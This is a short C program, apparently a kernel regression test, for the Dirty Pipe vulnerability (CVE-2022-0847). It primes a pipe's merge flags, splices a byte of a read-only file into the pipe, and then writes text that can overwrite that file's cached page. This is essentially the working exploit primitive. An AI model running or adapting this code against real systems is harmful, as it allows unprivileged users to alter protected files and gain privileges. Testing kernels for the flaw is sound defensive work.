/* ki_dirty_pipe FILE - CVE-2022-0847: splices a page of a read-only file into a pipe, then writes
 * to the pipe, which may change the page. The test compares the file. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* Leaves PIPE_BUF_FLAG_CAN_MERGE set in every slot of the pipe. */
static void prepare(int pipe[2], int size)
{
	static char bytes[4096];

	for (int left = size; left > 0; left -= (int)sizeof bytes)
		(void)!write(pipe[1], bytes, sizeof bytes);
	for (int left = size; left > 0; left -= (int)sizeof bytes)
		(void)!read(pipe[0], bytes, sizeof bytes);
}

int main(int argc, char **argv)
{
	static const char text[] = "overwritten by an unprivileged program";
	int fd = argc > 1 ? open(argv[1], O_RDONLY) : -1;
	off64_t offset = 1;
	char back[8] = { 0 };
	int fds[2];

	if (fd < 0 || pipe(fds) < 0)
		return 1;
	prepare(fds, fcntl(fds[1], F_GETPIPE_SZ));
	if (splice(fd, &offset, fds[1], NULL, 1, 0) != 1)
		return printf("splice errno %d\n", errno) < 0;
	printf("splice ok\n");
	if (write(fds[1], text, sizeof text) != sizeof text)
		return 1;
	/* The pipe holds the file's byte, then ours. */
	return read(fds[0], back, 2) == 2 && back[1] == text[0] ? 0 : 1;
}
